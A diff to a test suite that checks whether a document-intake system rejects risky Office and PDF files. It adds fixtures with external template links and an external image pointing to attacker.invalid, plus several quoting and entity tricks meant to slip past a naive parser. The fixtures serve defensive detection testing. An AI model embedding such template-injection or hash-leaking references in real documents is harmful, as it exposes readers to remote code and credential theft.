@@ -255,6 +255,12 @@ describe('risky Office and PDF content is refused as evidence (D19)', () => {
   it.each([
     ['VBA under another name, by content type', docx({ 'word/macros.bin': 'x' }, '<Types><Override PartName="/word/macros.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'), '宏'],
     ['an external template', docx({ 'word/_rels/settings.xml.rels': '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" TargetMode="External"/></Relationships>' }), '外部'],
+    // The same template written as XML allows it: single quotes, spaces around =, an entity, a prefix.
+    ["an external template in single quotes", docx({ 'word/_rels/settings.xml.rels': "<Relationships><Relationship Id='r1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target='http://attacker.invalid/t.dotm' TargetMode='External'/></Relationships>" }), '外部'],
+    ['an external template with spaces and an entity', docx({ 'word/_rels/settings.xml.rels': '<Relationships><Relationship Id="r1" Type = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" TargetMode = "Exte&#114;nal" /></Relationships>' }), '外部'],
+    ['an external template under a prefix', docx({ 'word/_rels/settings.xml.rels': '<r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships"><r:Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" TargetMode="External"/></r:Relationships>' }), '外部'],
+    // An image fetched from outside when the document opens (a UNC path would hand out the reader's NTLM hash).
+    ['an external image', docx({ 'word/_rels/document.xml.rels': '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://attacker.invalid/share/a.png" TargetMode="External"/></Relationships>' }), '外部'],
     ['an external link in a workbook', storedZip({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<workbook/>', 'xl/externalLinks/externalLink1.xml': '<externalLink/>' }), '外部链接'],
     ['a PDF with a JavaScript OpenAction', Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n2 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n%%EOF\n'), 'PDF'],
   ])('%s', async (_, bytes, reason) => {
